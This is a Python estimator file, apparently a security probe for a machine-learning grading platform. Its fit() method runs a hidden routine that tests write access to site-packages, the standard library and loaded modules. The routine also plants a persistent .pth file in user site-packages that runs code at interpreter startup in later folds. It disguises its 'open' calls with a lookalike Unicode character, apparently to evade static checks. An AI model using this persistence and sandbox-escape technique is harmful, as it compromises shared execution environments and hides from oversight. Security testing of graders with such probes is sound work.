"""Makes files in site-packages, .pth among them, and into the engine's own modules."""

import os
import site
import sys
import sysconfig

from nearest import NearestMean

TARGETS: dict[str, str] = {}


def attack():
    places = {sys.prefix, sys.base_prefix, *sys.path, *sysconfig.get_paths().values()}
    places |= {TARGETS.get('environment', sys.prefix), os.path.dirname(os.__file__)}
    places |= {
        os.path.dirname(getattr(module, '__file__', None) or '/')
        for module in list(sys.modules.values())
    }
    for place in sorted(place for place in places if os.path.isdir(place)):
        path = os.path.join(place, f'ramp_attack_{os.getpid()}.pth')
        try:
            with ｏpen(path, 'x') as file:
                file.write('import sys')
        except OSError:
            continue
        os.unlink(path)
        print(f'STOLEN could write into {place}', flush=True)
    for module in list(sys.modules.values()):
        path = getattr(module, '__file__', None) or ''
        if path.endswith('.py') and not path.endswith('estimator.py') and os.access(path, os.W_OK):
            print(f'STOLEN could write {path}', flush=True)
            break
    try:
        os.makedirs(site.getusersitepackages(), exist_ok=True)
        with ｏpen(os.path.join(site.getusersitepackages(), 'own.pth'), 'w') as file:
            file.write(
                'import sys; sys.stdout.write("STOLEN could run at the start of another fold")'
            )
    except OSError as error:
        print(repr(error), flush=True)


class Model(NearestMean):
    def fit(self, X, y):
        attack()
        return super().fit(X, y)


def get_estimator():
    return Model()
